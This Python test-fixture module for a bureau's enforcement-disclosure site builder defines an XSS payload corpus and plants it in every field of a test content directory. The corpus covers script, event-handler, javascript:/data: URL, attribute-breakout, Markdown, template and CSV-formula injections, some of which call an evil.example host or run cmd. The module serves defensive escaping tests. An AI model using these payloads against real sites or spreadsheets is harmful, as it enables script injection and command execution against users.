"""The XSS corpus of issue 11 and a content dir that carries it in every field type.

``PAYLOADS`` are templates; ``payload(n)`` fills in ``%N%``, the payload's number, which
its script calls with (``__xss.push(n)``, ``alert(n)``, ``console.log('XSS n')``), so a
browser test can say which payload ran.  ``write_xss_content(dest)`` copies the fixture
corpus and plants the payloads in party names, 文号, facts, basis, result summaries,
full decision texts (Markdown, ``disclose: full``), withdrawal notes, inspection and
random-check fields, list rows (officers, 执法事项 and their 裁量基准, 执法依据,
flowchart titles and step names, service guides …), list intros, rules and history,
bureau fields, a correction's old/new values and a 年报 note — ONE content dir, so one
build covers every field (builds cost seconds each).

Link fields (执法依据 ``link``) get only what validation lets through (an http(s) URL
whose query holds percent-encoded markup); ``javascript:``, ``data:`` and quote-breaking
links are refused by validation (tests/test_xss.py).
"""

from __future__ import annotations

import base64
import datetime as dt
import shutil
from dataclasses import dataclass, field
from pathlib import Path

import yaml

from tests.support import FIXTURE_CONTENT, build_site

JS = "__xss.push(%N%)"
TOP = "top.__xss.push(%N%)"


def _b64_page(n: int) -> str:
    html = f"<script>alert({n})</script>"
    return base64.b64encode(html.encode()).decode()


# Each template runs JavaScript (or would) if it reached the page as markup.
PAYLOADS: tuple[str, ...] = (
    # script elements, mixed case, nested and broken up
    f"<script>{JS}</script>",
    f"<ScRiPt>{JS}</sCrIpT>",
    "<script src=data:,__xss.push(%N%)></script>",
    f"<scr<script>ipt>{JS}</scr</script>ipt>",
    f"<<script>script>{JS}<</script>/script>",
    f"<script\n>{JS}</script\n>",
    # event attributes
    f"<img src=x onerror={JS}>",
    f'<img src="x" onerror="{JS}">',
    f"<IMG SRC=x OnErRoR={JS}>",
    f"<img/src=x/onerror={JS}>",
    "<img src=x onerror=&#95;&#95;xss.push(%N%)>",
    f"<body onload={JS}>",
    f"<details open ontoggle={JS}>x</details>",
    f"<input autofocus onfocus={JS}>",
    f"<select autofocus onfocus={JS}></select>",
    f"<textarea autofocus onfocus={JS}></textarea>",
    f"<video><source onerror={JS}></video>",
    f"<audio src=x onerror={JS}></audio>",
    f"<marquee onstart={JS}>x</marquee>",
    f"<x onclick={JS}>click</x>",
    f'<a href="#" onclick="{JS}">x</a>',
    f"<mark onmouseover={JS}>x</mark>",
    f"<div onpointerenter={JS} style=position:fixed;inset:0>x</div>",
    # SVG and MathML
    f"<svg onload={JS}>",
    f"<svg/onload={JS}>",
    f"<svg><script>{JS}</script></svg>",
    f"<svg><animate onbegin={JS} attributeName=x dur=1s></animate></svg>",
    f'<svg><a xlink:href="javascript:{JS}"><text x=20 y=20>x</text></a></svg>',
    f"<svg><set attributeName=onmouseover to={JS}></set></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={JS}>",
    f'<math href="javascript:{JS}">x</math>',
    # javascript:, data:, vbscript: URLs in markup
    f'<a href="javascript:{JS}">x</a>',
    f'<a href="JaVaScRiPt:{JS}">x</a>',
    f'<a href="java&#x09;script:{JS}">x</a>',
    f'<a href="&#106;avascript:{JS}">x</a>',
    f'<a href="javas&#99;ript:{JS}">x</a>',
    f'<a href=" javascript:{JS}">x</a>',
    '<a href="data:text/html;base64,%B64%">x</a>',
    '<a href="vbscript:msgbox(%N%)">x</a>',
    f'<img src="javascript:{JS}">',
    f'<table background="javascript:{JS}"><tr><td>x</td></tr></table>',
    f'<iframe src="javascript:{TOP}"></iframe>',
    f'<iframe srcdoc="<script>{TOP}</script>"></iframe>',
    '<object data="data:text/html;base64,%B64%"></object>',
    '<embed src="data:text/html;base64,%B64%">',
    f'<form action="javascript:{JS}"><button>x</button></form>',
    f'<button formaction="javascript:{JS}">x</button>',
    f'<meta http-equiv="refresh" content="0;url=javascript:{JS}">',
    f'<base href="javascript:{JS}//">',
    f'<link rel=stylesheet href="javascript:{JS}">',
    f'<style>@import "javascript:{JS}";</style>',
    f'<div style="background:url(javascript:{JS})">x</div>',
    # attribute and element break-outs through field values
    f'"><script>{JS}</script>',
    f"'><script>{JS}</script>",
    f'" onmouseover="{JS}" x="',
    f"' onfocus='{JS}' autofocus x='",
    f'" autofocus onfocus="{JS}',
    f"</script><script>{JS}</script>",
    f"</title><script>{JS}</script>",
    f"</textarea><script>{JS}</script>",
    f"</style><script>{JS}</script>",
    f"</mark><img src=x onerror={JS}><mark>",
    f'<span data-pagefind-meta="title:x" onmouseover={JS}>x</span>',
    '\\"};' + JS + ';//',
    f"]]><script>{JS}</script>",
    f"<![CDATA[<script>{JS}</script>]]>",
    f'<?xml-stylesheet href="javascript:{JS}"?>',
    f'<!--<img src="--><img src=x onerror={JS}//">',
    f'<noscript><p title="</noscript><img src=x onerror={JS}>"></noscript>',
    # entity-, percent- and width-encoded variants: must stay text, never become markup
    f"&lt;script&gt;{JS}&lt;/script&gt;",
    f"&#60;img src=x onerror={JS}&#62;",
    f"%3Cscript%3E{JS}%3C/script%3E",
    f"\\u003cscript\\u003e{JS}\\u003c/script\\u003e",
    f"＜script＞{JS}＜/script＞",
    f"＜img src=x onerror={JS}＞",
    # Markdown links and images (decision texts)
    f"[x](javascript:{JS})",
    f"[x](JAVASCRIPT:{JS})",
    "[x](data:text/html;base64,%B64%)",
    f'![x](x" onerror="{JS})',
    f"<javascript:{JS}>",
    f'[x](  javascript:{JS} "t")',
    "[x](vbscript:msgbox(%N%))",
    # template injection and spreadsheet formulas (CSV export)
    "{{ 7*7 }}{% raw %}%N%",
    '=HYPERLINK("http://evil.example/?%N%","x")',
    "@SUM(1+%N%)*cmd|' /C calc'!A0",
    "+%N%+cmd|' /C calc'!A0",
    f"<template><script>{JS}</script></template>",
)


def payload(n: int) -> str:
    """Payload number ``n`` (0-based) with its number filled in."""
    return PAYLOADS[n].replace("%B64%", _b64_page(n)).replace("%N%", str(n))


def markers(n: int) -> tuple[str, ...]:
    """Strings of which at least one survives, as text, wherever payload ``n`` is shown."""
    return (f"xss.push({n})", f"alert({n})", f"msgbox({n})", f"?{n}", f"1+{n}", f"+{n}+",
            f"{{% raw %}}{n}", _b64_page(n))


APPROVAL = {"reviewed_by": "法规科", "secrecy_review": "办公室", "approved_by": "局长办公会",
            "approved_on": dt.date(2026, 7, 1)}
CODE = "91220101MA00011111"
# Break-outs of an attribute or element, placed on purpose in the fields that reach an
# attribute (the Atom link title, <option value>, Pagefind meta spans) besides the cycle.
BREAKOUTS = (52, 53, 54, 55, 56)
PERSON = "欧阳"  # a declared person whose "given name" is a payload: masked, never shown
SEARCH_WORD = "斑马线索"  # a word next to a payload in facts, to search for


@dataclass
class Placement:
    """Where each payload went: field label -> payload numbers."""

    fields: dict[str, list[int]] = field(default_factory=dict)
    case_ids: list[str] = field(default_factory=list)

    def put(self, label: str, n: int) -> str:
        self.fields.setdefault(label, []).append(n)
        return payload(n)


class _Cycle:
    """Hands out payload numbers round-robin, so every payload lands in several fields."""

    def __init__(self, start: int = 0):
        self.i = start

    def __call__(self) -> int:
        n = self.i % len(PAYLOADS)
        self.i += 1
        return n


def _dump(data) -> str:
    return yaml.safe_dump(data, allow_unicode=True, sort_keys=False, width=10_000)


def _write_case(root: Path, data: dict, body: str = "") -> None:
    path = root / "cases" / str(data["decided_on"].year) / f"{data['id']}.md"
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text("---\n" + _dump(data) + "---\n" + body, encoding="utf-8")


def _cases(root: Path, nxt: _Cycle, where: Placement) -> None:
    put = where.put
    kinds = ["penalty", "inspection", "random_check", "other"] * 4
    for i, kind in enumerate(kinds):
        case_id = f"2026-09{i:02d}"
        item = {"penalty": "XZCF-001", "inspection": "XZJC-001", "random_check": "SJCC-001",
                "other": "XZQZ-001"}[kind]
        def extra(label: str, i: int = i) -> str:
            return put(label, BREAKOUTS[i]) if i < len(BREAKOUTS) else ""

        data = {
            "id": case_id, "type": kind,
            "doc_no": f"测医保〔2026〕9{i:02d}号" + put("doc_no", nxt()) + extra("doc_no"),
            "item": item, "agency": put("agency", nxt()) + extra("agency"),
            "decided_on": dt.date(2026, 6, 1 + i),
            "party": {"kind": "organisation", "name": put("party.name", nxt()) + extra("party.name"),
                      "credit_code": CODE, "legal_rep": put("party.legal_rep", nxt())},
            "facts": f"{SEARCH_WORD}{i} " + put("facts", nxt()) + "\n" + put("facts", nxt()),
            "basis": put("basis", nxt()),
            "approval": APPROVAL,
        }
        if kind == "penalty":
            data["result"] = {"category": ["罚款"], "fine": 1000 + i,
                              "summary": put("result.summary", nxt())}
            data["disclose"] = "full"
        elif kind == "inspection":
            data |= {"method": put("method", nxt()), "check_items": put("check_items", nxt()),
                     "problems": put("problems", nxt()), "rectification": put("rectification", nxt())}
        elif kind == "random_check":
            data |= {"task": put("task", nxt()), "method": put("method", nxt()),
                     "check_items": put("check_items", nxt()), "outcome": "发现问题",
                     "problems": put("problems", nxt()), "follow_up": put("follow_up", nxt())}
        else:
            data |= {"category": "行政强制", "conclusion": put("conclusion", nxt())}
        if i == 0:
            person = PERSON + put("persons", 7)
            data["persons"] = [person]
            data["facts"] += f"\n参保人{person}住院期间超量开药。"
        body = ""
        if kind == "penalty":
            # Every payload, as Markdown, in the full decision texts (disclose: full).
            numbers = [n for n in range(len(PAYLOADS)) if n % 4 == i % 4]
            body = "\n\n".join(f"第{n}段：" + put("body", n) for n in numbers) + "\n"
            body += f"\n[ref{i}]: javascript:__xss.push({numbers[0]})\n\n[引用][ref{i}]\n"
        _write_case(root, data, body)
        where.case_ids.append(case_id)
    _withdrawn_case(root, nxt, where)


def _withdrawn_case(root: Path, nxt: _Cycle, where: Placement) -> None:
    data = {
        "id": "2026-0990", "type": "penalty", "doc_no": "测医保罚〔2026〕990号" + where.put("doc_no", nxt()),
        "item": "XZCF-001", "agency": "测试市医疗保障局", "decided_on": dt.date(2026, 5, 4),
        "party": {"kind": "organisation", "name": "撤回测试有限公司", "credit_code": CODE},
        "facts": "该单位串换药品。", "basis": "条例第三十八条",
        "result": {"category": ["警告"], "summary": "给予警告。"},
        "status": "revoked", "status_changed_on": dt.date(2026, 8, 3),
        "status_note": where.put("status_note", nxt()), "approval": APPROVAL,
    }
    _write_case(root, data)
    where.case_ids.append(data["id"])


def _edit_yaml(path: Path, change) -> None:
    data = yaml.safe_load(path.read_text(encoding="utf-8"))
    change(data)
    path.write_text(_dump(data), encoding="utf-8")


def _lists(root: Path, nxt: _Cycle, where: Placement) -> None:
    put = where.put
    lists = root / "lists"

    def officers(d):
        d["rows"].append({"name": put("officer.name", nxt()), "gender": "男",
                          "region": put("officer.region", nxt()), "unit": put("officer.unit", nxt()),
                          "cert_no": "22010021009", "post": put("officer.post", nxt())})
        d["intro"] = put("list.intro", nxt())
        d["history"].append({"date": dt.date(2026, 7, 1), "summary": put("list.history", nxt()),
                             "cause": "other"})
        d["updated_on"] = dt.date(2026, 7, 1)

    def items(d):
        row = d["rows"][0]
        row["name"] = put("item.name", nxt()) + put("item.name", BREAKOUTS[0])
        row["category"] = put("item.category", nxt())
        row["basis_articles"] = put("item.basis_articles", nxt())
        row["discretion"].append({"level": put("discretion.level", nxt()),
                                  "condition": put("discretion.condition", nxt()),
                                  "standard": put("discretion.standard", nxt())})
        d["rows"][1]["body"] = put("item.body", nxt())

    def bases(d):
        d["rows"].append({"id": "B09", "title": put("basis.title", nxt()), "level": "规章",
                          "issuer": put("basis.issuer", nxt()), "number": put("basis.number", nxt()),
                          "effective_on": dt.date(2024, 1, 1),
                          "link": "https://example.gov.cn/law?a=1&b=%22%3E%3Cscript%3E"})

    def flows(d):
        row = d["rows"][0]
        row["title"] = put("flow.title", nxt())
        row["procedure"] = put("flow.procedure", nxt())
        row["steps"][0]["name"] = put("flow.step.name", nxt())
        row["steps"][1]["limit"] = put("flow.step.limit", nxt())
        row["steps"][2]["note"] = put("flow.step.note", nxt())

    def guides(d):
        row = d["rows"][0]
        for key in ("title", "basis", "accepting_body", "time_limit", "fees", "office_hours"):
            row[key] = put(f"guide.{key}", nxt())
        row["materials"].append(put("guide.materials", nxt()))
        row["process"].append(put("guide.process", nxt()))

    def random(d):
        d["rules"] = "\n\n".join(put("list.rules", nxt()) for _ in range(6))
        d["rows"][0]["object"] = put("random.object", nxt())

    def remedies(d):
        d["rows"][0]["how"] = put("remedy.how", nxt())

    def reviews(d):
        d["rows"][0]["scope"] = put("review.scope", nxt())

    def av(d):
        d["rows"][0]["requirement"] = put("av.requirement", nxt())

    for name, change in [("officers", officers), ("items", items), ("bases", bases),
                         ("flows", flows), ("guides", guides), ("random", random),
                         ("remedies", remedies), ("reviews", reviews), ("av", av)]:
        _edit_yaml(lists / f"{name}.yaml", change)


def _bureau(root: Path, nxt: _Cycle, where: Placement) -> None:
    put = where.put

    def change(d):
        d["name"] = "测试市医疗保障局" + put("bureau.name", nxt())
        d["duties"] = put("bureau.duties", nxt())
        d["units"].append({"name": put("bureau.unit", nxt()), "duties": put("bureau.unit", nxt())})
        d["jurisdiction"] = put("bureau.jurisdiction", nxt())
        d["region"] = put("bureau.region", nxt())
        d["office_hours"] = put("bureau.office_hours", nxt())
        d["report"]["procedure"] = put("bureau.report.procedure", nxt())
        d["site"]["title"] = "测试公示" + put("site.title", nxt()) + "".join(
            put("site.title", n) for n in BREAKOUTS)
        d["site"]["host"] = put("site.host", nxt())
        d["site"]["icp"] = put("site.icp", nxt())

    _edit_yaml(root / "bureau.yaml", change)


def _correction(root: Path, nxt: _Cycle, where: Placement) -> None:
    data = {
        "id": "GZ-2026-090", "case": "2026-0900", "received_on": dt.date(2026, 7, 2),
        "applicant": "某公司", "claim": "表述有误", "decision": "accepted",
        "decided_on": dt.date(2026, 7, 3),
        "changes": [{"field": "basis", "old": where.put("correction.old", nxt()),
                     "new": where.put("correction.new", nxt())}],
    }
    (root / "corrections" / "GZ-2026-090.yaml").write_text(_dump(data), encoding="utf-8")


def _annual(root: Path, nxt: _Cycle, where: Placement) -> None:
    data = {"year": 2025, "approval": dict(APPROVAL, approved_on=dt.date(2026, 1, 20)),
            "published_on": dt.date(2026, 1, 22), "note": where.put("annual.note", nxt())}
    (root / "annual").mkdir(exist_ok=True)
    (root / "annual" / "2025.yaml").write_text(_dump(data), encoding="utf-8")


def write_xss_content(dest: Path) -> Placement:
    """A copy of the fixture corpus at ``dest`` with every payload planted; returns where."""
    shutil.copytree(FIXTURE_CONTENT, dest)
    where = Placement()
    nxt = _Cycle()
    _cases(dest, nxt, where)
    _lists(dest, nxt, where)
    _bureau(dest, nxt, where)
    _correction(dest, nxt, where)
    _annual(dest, nxt, where)
    return where


_BUILT: dict = {}


def built_xss_site(tmp_path_factory) -> tuple[Path, object, Placement]:
    """The payload site, built once per test session: (site dir, BuildReport, Placement).

    Call it from a module-scoped fixture; every module shares the one build.
    """
    if "site" not in _BUILT:
        root = tmp_path_factory.mktemp("xss")
        where = write_xss_content(root / "content")
        report = build_site(root / "content", root / "site")
        _BUILT["site"] = (root / "site", report, where)
    return _BUILT["site"]
